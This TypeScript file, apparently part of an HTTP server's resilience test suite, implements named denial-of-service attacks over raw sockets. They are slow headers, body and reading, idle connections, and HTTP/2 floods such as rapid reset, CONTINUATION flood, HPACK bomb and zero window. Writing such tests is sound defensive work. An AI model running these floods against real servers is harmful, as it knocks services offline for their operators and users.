import type { Socket } from "node:net";
import { FLAG, FRAME, frame, headerBlock, PREFACE, requestFields, settings, word } from "../support/raw-http2-client.ts";

/** What one connection does from when it stands until the signal. */
export type Attack = (socket: Socket, terms: { readonly index: number; readonly signal: AbortSignal }) => void;

/** Clients that are slow: half of each speak HTTP/2. */
export const SLOW = ["slow headers", "slow body", "slow reading", "idle"] as const;

/** Clients that send much of what costs them little. */
export const FLOODS = [
  ...["rapid reset", "made you reset", "continuation", "settings", "ping", "priority"],
  ...["hpack bomb", "zero window", "empty data"],
] as const;

const EVERY_MS = 500;

const { endHeaders, endStream } = FLAG;

/** Says something first, and a little more from time to time. */
const drip =
  (first: readonly [http1: string, http2: Buffer], more: readonly [http1: string, http2: Buffer] | undefined): Attack =>
  (socket, { index, signal }) => {
    const isHttp2 = index % 2 === 1;
    const said = isHttp2 ? Buffer.concat([PREFACE, first[1]]) : Buffer.from(first[0]);
    socket.on("data", () => {});
    if (said.length > 0) socket.write(said);
    if (more === undefined) return;
    const timer = setInterval(() => socket.write(isHttp2 ? more[1] : Buffer.from(more[0])), EVERY_MS);
    signal.addEventListener("abort", () => clearInterval(timer));
  };

const open = (stream: number, flags: number, method = "GET", path = "/"): Buffer =>
  frame(FRAME.headers, { flags, stream, payload: headerBlock(requestFields(path, [], method)) });

/** Reads 100 bytes at a time; over HTTP/2 it opens a window of that. */
const slowReading: Attack = (socket, { index, signal }) => {
  const isHttp2 = index % 2 === 1;
  const timer = setInterval(() => {
    if (isHttp2) socket.write(frame(FRAME.windowUpdate, { stream: 1, payload: word(100) }));
    else socket.read(100);
  }, EVERY_MS);
  signal.addEventListener("abort", () => clearInterval(timer));
  if (!isHttp2) return void socket.write("GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n");
  socket.on("data", () => {});
  socket.write(Buffer.concat([PREFACE, settings([4, 100]), open(1, endHeaders | endStream, "GET", "/large")]));
};

/** Sends a piece every millisecond, or as fast as the socket takes them where that is slower. */
const pour =
  (first: Buffer, piece: (round: number) => Buffer | undefined): Attack =>
  (socket, { signal }) => {
    socket.on("data", () => {});
    socket.write(Buffer.concat([PREFACE, settings(), first]));
    let round = 0;
    const next = (): void => {
      if (signal.aborted) return;
      const bytes = piece(round);
      round += 1;
      if (bytes === undefined) return;
      if (socket.write(bytes)) setTimeout(next, 1);
      else socket.once("drain", next);
    };
    next();
  };

const many = (count: number, bytes: Buffer): Buffer => Buffer.concat(Array.from({ length: count }, () => bytes));

/** Streams in tens: each is opened and then ended by what follows it. */
const streams =
  (behind: (stream: number) => Buffer) =>
  (round: number): Buffer =>
    Buffer.concat(
      Array.from({ length: 10 }, (_, i) => 20 * round + 2 * i + 1).flatMap((stream) => [
        open(stream, endHeaders | endStream),
        behind(stream),
      ]),
    );

/** One large field into the table, then a thousand references to it, a byte each. */
const bomb = Buffer.concat([
  headerBlock(requestFields()),
  Buffer.of(0x40),
  headerBlock([["x-large", "y".repeat(3_900)]]).subarray(1),
  Buffer.alloc(10_000, 0x80 | 62),
]);

/** By name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "slow headers": drip(
    [
      "GET / HTTP/1.1\r\nHost: localhost\r\n",
      Buffer.concat([settings(), frame(FRAME.headers, { stream: 1, payload: headerBlock(requestFields()) })]),
    ],
    ["X-A: b\r\n", frame(FRAME.continuation, { stream: 1, payload: headerBlock([["x-a", "b"]]) })],
  ),
  "slow body": drip(
    [
      "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n",
      Buffer.concat([settings(), open(1, endHeaders, "POST")]),
    ],
    ["x", frame(FRAME.data, { stream: 1, payload: Buffer.from("x") })],
  ),
  "slow reading": slowReading,
  idle: drip(["", settings()], undefined),
  "rapid reset": pour(
    Buffer.alloc(0),
    streams((stream) => frame(FRAME.reset, { stream, payload: word(8) })),
  ),
  "made you reset": pour(
    Buffer.alloc(0),
    streams((stream) => frame(FRAME.windowUpdate, { stream, payload: word(0) })),
  ),
  continuation: pour(frame(FRAME.headers, { stream: 1, payload: headerBlock(requestFields()) }), () =>
    many(10, frame(FRAME.continuation, { stream: 1, payload: headerBlock([["x-a", "y".repeat(100)]]) })),
  ),
  settings: pour(Buffer.alloc(0), () => many(100, settings([4, 65_535]))),
  ping: pour(Buffer.alloc(0), () => many(100, frame(FRAME.ping, { payload: Buffer.alloc(8) }))),
  priority: pour(Buffer.alloc(0), () => many(500, frame(FRAME.priority, { stream: 99, payload: Buffer.alloc(5) }))),
  "hpack bomb": pour(Buffer.alloc(0), (round) =>
    frame(FRAME.headers, { flags: endHeaders | endStream, stream: 2 * round + 1, payload: bomb }),
  ),
  "zero window": pour(settings([4, 0]), (round) =>
    round < 50 ? open(2 * round + 1, endHeaders | endStream, "GET", "/large") : undefined,
  ),
  "empty data": pour(open(1, endHeaders, "POST"), () => many(100, frame(FRAME.data, { stream: 1 }))),
};
